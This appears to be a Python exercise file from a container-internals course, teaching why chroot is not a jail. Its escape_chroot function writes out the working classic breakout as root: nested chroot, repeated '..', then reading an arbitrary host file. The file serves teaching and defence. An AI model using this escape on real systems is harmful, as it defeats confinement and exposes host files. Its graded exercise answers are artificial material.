"""Exercise 01 — chroot: a different `/`, and why it is not a jail.

Fill in the two functions, then check them: in the notebook `grade("01")`, in a
terminal `make check EX=01` (or `python -m minicontainer.course.grade 01`).
"""
import os


def chroot_into(rootfs: str) -> None:
    """Make `rootfs` this process's `/` and step into it."""
    os.chroot(rootfs)
    os.chdir("/")


def escape_chroot(host_file: str) -> None:
    """You are root inside a chroot: climb out and write `host_file`'s bytes to stdout."""
    os.chroot("/tmp")           # a new root below us; the working directory stays above it
    for _ in range(64):
        os.chdir("..")          # nothing stops ".." above a root we are not under
    os.chroot(".")
    with open(host_file, "rb") as f:
        os.write(1, f.read())
